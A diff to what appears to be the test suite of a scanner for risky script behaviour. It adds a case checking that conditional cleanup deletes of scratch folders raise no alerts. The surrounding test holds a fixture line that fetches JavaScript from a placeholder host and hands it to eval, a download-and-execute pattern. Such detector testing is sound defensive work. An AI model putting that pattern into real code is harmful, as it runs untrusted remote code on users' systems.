@@ -200,3 +200,12 @@ def test_network_modules_imported_under_another_name_are_still_the_network():
 def test_a_fetched_response_handed_to_eval_runs_downloaded_code():
     assert "skillscope/obfuscation/download-exec" in rules({"scripts/a.js": "fetch('https://x.example.org/p.js').then(r => r.text()).then(eval);\n"})
     assert "skillscope/obfuscation/download-exec" not in rules({"scripts/a.js": "fetch('https://x.example.org/d.json').then(r => r.json()).then(show);\n"})
+
+
+@pytest.mark.parametrize(
+    "code",
+    ['const { execSync } = require("child_process");\nif (process.env.NODE_ENV === "production") {\n  execSync("rm -rf /tmp/app-cache");\n}\n',
+     'const fs = require("fs");\nif (process.argv[2] === "--clean") {\n  fs.rmSync("dist", { recursive: true, force: true });\n}\n'],
+)
+def test_a_condition_guarding_a_scratch_or_workspace_delete_is_quiet(code):
+    assert not {r for r in rules({"scripts/c.js": code}) if r.startswith("skillscope/triggers")}
